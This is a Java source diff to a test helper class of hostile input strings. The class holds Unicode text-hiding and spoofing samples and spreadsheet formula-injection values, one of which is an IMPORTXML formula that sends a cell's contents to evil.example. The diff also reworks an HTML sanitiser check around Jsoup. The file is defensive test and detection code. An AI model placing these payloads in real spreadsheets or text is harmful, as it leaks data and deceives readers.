@@ -2,8 +2,12 @@ package org.plainsight.testing;
 
 import java.util.ArrayList;
 import java.util.List;
-import java.util.regex.Matcher;
+import java.util.Locale;
+import java.util.Set;
 import java.util.regex.Pattern;
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Attribute;
+import org.jsoup.nodes.Element;
 
 /** Texts that want to run, to hide, to turn the line around, to be taken for others or to be a formula; and who tells. */
 public final class HostileTexts {
@@ -30,7 +34,16 @@ public final class HostileTexts {
 
     public static final List<String> HIDE = List.of(
             "\u202eevil%d\u202c",
-            "pay\u2066pal%d\u2069", "a\u200bb%d", "x\u2028y%d", "\u061cz%d", "\ufeffq%d", "\u2067w%d");
+            "pay\u2066pal%d\u2069",
+            "a\u200bb%d",
+            "x\u2028y%d",
+            "\u061cz%d",
+            "\ufeffq%d",
+            "\u2067w%d",
+            "o\u034fk%d",
+            "bin\u3164ance%d",
+            "\uffa0v%d",
+            "ok\ufe00x%d");
 
     /** Words in letters that look like others. */
     public static final List<String> LOOK_ALIKE =
@@ -44,22 +57,21 @@ public final class HostileTexts {
             "IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
             "1+1\",=2+5");
 
-    private static final Pattern TAG = Pattern.compile("<(/?[a-zA-Z!][^\\s>]*)((?:[^>\"']|\"[^\"]*\"|'[^']*')*)>");
-    private static final Pattern ELEMENT = Pattern.compile(
-            "/?(html|head|title|meta|link|body|header|footer|main|nav|section|template|noscript|div|p|span|a|abbr|br|wbr|hr|h[1-4]"
-                    + "|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|th|td|form|label|input|select|option|button|textarea"
-                    + "|fieldset|legend|details|summary|strong|em|b|small|code|pre|time|output|progress|svg|path|rect|line|circle"
-                    + "|text|g|polyline|polygon|desc|figure|figcaption|blockquote|script|!doctype)",
-            Pattern.CASE_INSENSITIVE);
-    private static final Pattern HANDLER = Pattern.compile("(?:^|[\\s\"'/])on[a-z]+\\s*=", Pattern.CASE_INSENSITIVE);
-    private static final Pattern QUOTED = Pattern.compile("\"[^\"]*\"|'[^']*'");
-    private static final Pattern OWN_SCRIPT = Pattern.compile("\\s(?:type=\"module\"\\s)?src=\"/[a-z][^\"]*\"[^<>]*");
-    private static final Pattern LINK = Pattern.compile("(?:href|src|action)=\"([^\"]*)\"");
-    private static final Pattern HIDDEN =
-            Pattern.compile("[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2028\u2029\u061c\ufeff]");
+    /** What our own pages are made of. */
+    private static final Set<String> ELEMENTS = Set.of(
+            ("html head title meta link body header footer main nav section template noscript div p span a abbr br wbr hr h1"
+                            + " h2 h3 h4 ul ol li dl dt dd table caption thead tbody tfoot tr th td form label input select"
+                            + " option button textarea fieldset legend details summary strong em small code pre time output"
+                            + " progress svg path rect line circle text g polyline polygon desc figure figcaption blockquote"
+                            + " script")
+                    .split(" ", -1));
 
-    /** Sent back as it is, and never shown. */
-    private static final Pattern FORM_DATA = Pattern.compile("<input type=\"hidden\"[^>]*>");
+    private static final Set<String> LINKS = Set.of("href", "src", "action", "formaction", "xlink:href", "data");
+    private static final Pattern LINK =
+            Pattern.compile("(https?://|/(?!/)|#|\\?|data:image/|mailto:).*|[a-z0-9.-]*", Pattern.DOTALL);
+    /** What no reader sees, nor the order it gives to what stands around it. */
+    private static final Pattern HIDDEN = Pattern.compile(
+            "[\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u3164\ufe00-\ufe0f\uffa0]");
 
     private HostileTexts() {}
 
@@ -81,30 +93,31 @@ public final class HostileTexts {
         return controlFirst || (!shown.isEmpty() && "=+-@＝＋－＠".indexOf(shown.charAt(0)) >= 0);
     }
 
-    /** What is wrong with a page: elements that are not ours, handlers, scripts and links elsewhere, text that hides. */
+    /** What is wrong with a page, as a browser parses it: elements, handlers, scripts and links not ours, text that hides. */
     public static List<String> harmIn(String html) {
         List<String> harm = new ArrayList<>();
-        Matcher tags = TAG.matcher(html);
-        while (tags.find()) {
-            String element = tags.group(1);
-            String attributes = tags.group(2);
-            if (!ELEMENT.matcher(element).matches()
-                    || HANDLER.matcher(QUOTED.matcher(attributes).replaceAll("\"\""))
-                            .find()
-                    || (element.equalsIgnoreCase("script")
-                            && !OWN_SCRIPT.matcher(attributes).matches())) {
-                harm.add(tags.group());
+        for (Element element : Jsoup.parse(html).children().select("*")) {
+            boolean ours = ELEMENTS.contains(element.normalName())
+                    && (!element.normalName().equals("script")
+                            || (element.attr("src").startsWith("/")
+                                    && element.data().isBlank()));
+            if (!ours) {
+                harm.add(element.outerHtml());
             }
-            Matcher links = LINK.matcher(attributes);
-            while (links.find()) {
-                if (!links.group(1).matches("(https?://|/|#|\\?|data:image/).*|mailto:.*|[a-z0-9.-]+|")) {
-                    harm.add(links.group());
+            // a hidden field is sent back as it is, and never shown
+            boolean shown = !element.is("input[type=hidden]");
+            for (Attribute attribute : element.attributes()) {
+                String name = attribute.getKey().toLowerCase(Locale.ROOT);
+                boolean elsewhere = LINKS.contains(name)
+                        && !LINK.matcher(attribute.getValue()).matches();
+                boolean hides = shown && HIDDEN.matcher(attribute.getValue()).find();
+                if (name.startsWith("on") || name.equals("style") || name.equals("autofocus") || elsewhere || hides) {
+                    harm.add(element.normalName() + " with " + attribute);
                 }
             }
-        }
-        Matcher hidden = HIDDEN.matcher(FORM_DATA.matcher(html).replaceAll(""));
-        while (hidden.find()) {
-            harm.add("U+%04X at %d".formatted((int) hidden.group().charAt(0), hidden.start()));
+            if (HIDDEN.matcher(element.wholeOwnText()).find()) {
+                harm.add("hidden in " + element.outerHtml());
+            }
         }
         return harm;
     }
